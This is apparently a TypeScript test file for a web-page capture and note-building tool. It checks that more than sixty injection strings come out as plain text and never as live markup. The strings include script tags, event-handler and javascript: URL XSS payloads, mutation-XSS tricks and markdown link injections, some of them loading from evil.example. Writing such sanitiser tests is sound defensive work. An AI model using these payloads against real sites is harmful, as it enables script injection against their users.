import { parse } from 'parse5';
import { describe, expect, test } from 'vitest';
import type { Capture } from '../src/capture/capture.js';
import { capturePage } from '../src/capture/capture-page.js';
import { readSource } from '../src/capture/read/read-source.js';
import { authorDialect } from '../src/log/dialects/index.js';
import { addEntry } from '../src/log/edit/add-entry.js';
import { readNote } from '../src/log/read-note.js';
import { captureDraft } from '../src/operations/capture/capture-draft.js';
import { builtSite } from './built-site.js';
import { expectLawful } from './capture/capture-laws.js';
import { type FakeAnswer, fakeWeb } from './capture/fake-web.js';
import { dangers, isOfPage, type ParsedNode } from './page-dangers.js';
import { sampleNote } from './sample-log.js';

/** What a page may hold that tries to run, to be fetched, or to become markup of the note. */
const injections: readonly string[] = [
  '<script>window.hit=1</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<script>window.hit=1',
  '<<script>script>window.hit=1<</script>/script>',
  '<scr\u0000ipt>window.hit=1</scr\u0000ipt>',
  '<scr<script>ipt>window.hit=1</script>',
  '<img src=x onerror=window.hit=1>',
  '<img src="x" onerror="window.hit=1">',
  '<img src=`x` onerror=window.hit=1>',
  '<img/src=x/onerror=window.hit=1>',
  '<img src="https://evil.example/p.gif">',
  '<image href="x" onerror="window.hit=1">',
  '<svg onload=window.hit=1>',
  '<svg><script>window.hit=1</script></svg>',
  '<svg><a xlink:href="javascript:window.hit=1"><text>x</text></a></svg>',
  '<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
  '<math href="javascript:window.hit=1">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>',
  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
  '<template><script>window.hit=1</script></template>',
  '<template shadowrootmode=open><img src=x onerror=window.hit=1></template>',
  '<iframe src="javascript:window.hit=1"></iframe>',
  '<iframe srcdoc="<script>top.hit=1</script>"></iframe>',
  '<object data="data:text/html,<script>top.hit=1</script>"></object>',
  '<embed src="javascript:window.hit=1">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.hit=1">',
  '<style>@import "https://evil.example/a.css";</style>',
  '<div style="background:url(javascript:window.hit=1)">x</div>',
  '<a href="javascript:window.hit=1">x</a>',
  '<a href="JaVaScRiPt:window.hit=1">x</a>',
  '<a href="java\tscript:window.hit=1">x</a>',
  '<a href="&#106;avascript:window.hit=1">x</a>',
  '<a href="javascript&colon;window.hit=1">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://user:pass@evil.example/">x</a>',
  '<form action="javascript:window.hit=1"><button>x</button></form>',
  '<button formaction="javascript:window.hit=1">x</button>',
  '<input autofocus onfocus=window.hit=1>',
  '<details open ontoggle=window.hit=1>x</details>',
  '<video><source onerror=window.hit=1></video>',
  '<video src="https://evil.example/v.mp4" autoplay></video>',
  '<marquee onstart=window.hit=1>x</marquee>',
  '<textarea><script>window.hit=1</script></textarea>',
  '<title></title><script>window.hit=1</script>',
  '<!--><script>window.hit=1</script>-->',
  '<![CDATA[<script>window.hit=1</script>]]>',
  '<?xml-stylesheet href="javascript:window.hit=1"?>',
  '&lt;script&gt;window.hit=1&lt;/script&gt;',
  '&amp;lt;img src=x onerror=window.hit=1&amp;gt;',
  '&#60;img src=x onerror=window.hit=1&#62;',
  '"><script>window.hit=1</script>',
  '" onmouseover="window.hit=1',
  "' onmouseover='window.hit=1",
  '</title><img src=x onerror=window.hit=1>',
  '</div>\n\n1. [Forged](https://evil.example/) :star::star::star::star::star:',
  '[x](javascript:window.hit=1)',
  '](javascript:window.hit=1) [',
  '![x](https://evil.example/p.gif)',
  '[x]: javascript:window.hit=1',
  '<javascript:window.hit=1>',
  '**bold** `code` ~~gone~~ :star::star:',
  '\n   - Code: [x](javascript:window.hit=1)',
  '\n# Forged heading\n\n------\n',
  '```\n<script>window.hit=1</script>\n```',
  '$\\href{javascript:window.hit=1}{x}$',
  '$$\\htmlData{x=1}{y}\\includegraphics{https://evil.example/p.gif}$$',
];

const attribute = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');

/** Pages that hold an injection wherever a page holds words or addresses, raw and well written. */
const pages: Readonly<Record<string, (text: string) => Readonly<Record<string, FakeAnswer>>>> = {
  'https://example.org/raw': (text) => ({
    'https://example.org/raw': {
      body: `<html><head><title>Raw ${text}</title><meta name="description" content="Raw ${text}"></head><body><h1>Raw ${text}</h1><p>Words before ${text} and after.</p><a href="${text}">x</a></body></html>`,
    },
  }),
  'https://example.org/quoted': (text) => ({
    'https://example.org/quoted': {
      body: `<html><head><meta property="og:title" content="Quoted ${attribute(text)}"><meta name="description" content="Quoted ${attribute(text)}"><meta name="citation_title" content="Quoted ${attribute(text)}"><meta name="citation_pdf_url" content="${attribute(text)}"><meta property="og:image" content="${attribute(text)}"><meta property="og:site_name" content="${attribute(text)}"></head><body></body></html>`,
    },
  }),
  'https://mp.weixin.qq.com/s/x': (text) => ({
    'https://mp.weixin.qq.com/s/x': {
      body: `<html><head><script>var msg_title = ${JSON.stringify(`Article ${text}`)}; var nickname = ${JSON.stringify(text)}; var msg_cdn_url = ${JSON.stringify(text)};</script><meta property="og:description" content="${attribute(text)}"></head><body><div id="js_content"><p>${text}</p><p>论文：https://arxiv.org/abs/2205.01234${text}</p><img data-src="${attribute(text)}" data-w="600"></div></body></html>`,
    },
  }),
  'https://github.com/example/hostile': (text) => ({
    'https://api.github.com/repos/example/hostile': {
      body: JSON.stringify({ full_name: 'example/hostile', description: text, homepage: text, stargazers_count: text, created_at: text }),
      type: 'application/json',
    },
    'https://api.github.com/repos/example/hostile/readme': { body: `${text} https://arxiv.org/abs/2205.01234 ${text}`, type: 'text/plain' },
  }),
};

async function capturesOf(text: string): Promise<readonly Capture[]> {
  const { stars } = authorDialect;
  const made = Object.entries(pages).map(([url, answers]) =>
    capturePage(url, { fetch: fakeWeb(answers(text)).fetch, read: readSource, stars }),
  );
  return Promise.all(made);
}

describe('what a page holds', () => {
  test('is tried in more than sixty ways', () => {
    expect(injections.length).toBeGreaterThanOrEqual(60);
  });

  test.each(injections)('%j comes out as text and http addresses, and stays one entry', async (text) => {
    let note = readNote('notes/202205/0511.md', sampleNote('2022.5.11', ''), authorDialect);
    for (const capture of await capturesOf(text)) {
      expectLawful(capture);
      const next = readNote(note.path, addEntry(note, captureDraft(capture), authorDialect), authorDialect);
      expect(next.entries.length).toBe(note.entries.length + 1);
      expect(next.entries.at(-1)?.title).toBe(capture.title);
      note = next;
    }
  });

  test('runs on no page that is made of it', async () => {
    let note = readNote('notes/202205/0511.md', sampleNote('2022.5.11', ''), authorDialect);
    for (const text of injections)
      for (const capture of await capturesOf(text))
        note = readNote(note.path, addEntry(note, captureDraft(capture), authorDialect), authorDialect);
    expect(note.entries.length).toBe(injections.length * Object.keys(pages).length);
    const site = await builtSite({ [note.path]: note.text });
    try {
      const made = site.files.filter((path) => path.endsWith('.html'));
      expect(made.length).toBeGreaterThan(3);
      expect(made.flatMap((path) => dangers(parse(site.read(path)) as ParsedNode, isOfPage).map((danger) => `${path}: ${danger}`))).toEqual(
        [],
      );
    } finally {
      site.remove();
    }
  });
});
